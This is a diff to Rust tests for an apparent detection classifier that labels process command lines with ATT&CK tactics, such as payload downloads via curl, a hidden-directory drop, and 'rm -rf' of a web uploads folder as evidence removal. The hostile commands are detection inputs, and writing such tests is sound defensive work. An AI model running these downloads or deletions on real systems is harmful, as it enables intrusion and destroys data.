@@ -418,6 +418,12 @@ fn data_is_named_by_the_direction_it_moves() {
         name_started(&["scp", "user@203.0.113.7:/srv/tool", "/tmp/tool"]),
         ("command-and-control".into(), "T1105".into())
     );
+    // An option that can send data (`-f` matches the upload indicator's
+    // `curl -f`, meant for `-F`) is not data sent: `curl -fsS` fetches.
+    assert_eq!(
+        name_started(&["curl", "-fsS", "http://203.0.113.7/stage2/update"]),
+        ("command-and-control".into(), "T1105".into())
+    );
     // A file's contents written into a /dev/tcp socket are sent out; the
     // same socket wired to a shell is a command channel.
     assert_eq!(
@@ -436,14 +442,17 @@ fn data_is_named_by_the_direction_it_moves() {
 #[test]
 fn a_program_a_web_servers_shell_runs_is_named_by_what_it_does() {
     // What the web server's shell runs is named by what it does (a
-    // download, a hidden file made), not more execution through the
-    // shell; the explanation does not call the program a shell.
+    // download, files deleted), not more execution through the shell; the
+    // explanation does not call the program a shell.
     let cases = [
         (
             &["curl", "-s", "http://203.0.113.7/srv/files/update-agent"][..],
             ("command-and-control", "T1105"),
         ),
-        (&["touch", "/tmp/.k"][..], ("defense-evasion", "T1564.001")),
+        (
+            &["rm", "-rf", "/var/www/html/uploads"][..],
+            ("defense-evasion", "T1070.004"),
+        ),
     ];
     for (argv, want) in cases {
         let mut c = classifier();
@@ -505,4 +514,25 @@ fn a_login_shell_set_for_an_account_is_not_a_shell_started() {
         2_000_000_000,
     ));
     assert!(!f.context.shell_in_arguments);
+}
+
+#[test]
+fn what_a_process_does_names_it_before_how_it_looks() {
+    // A download into a hidden directory is a download; a hidden name
+    // (which `./run` also matches) names the event only when nothing
+    // else does.
+    assert_eq!(
+        name_started(&[
+            "curl",
+            "-s",
+            "-o",
+            "/var/tmp/.cache/upd",
+            "http://203.0.113.9/u"
+        ]),
+        ("command-and-control".into(), "T1105".into())
+    );
+    assert_eq!(
+        name_started(&["touch", "/tmp/.k"]),
+        ("defense-evasion".into(), "T1564.001".into())
+    );
 }
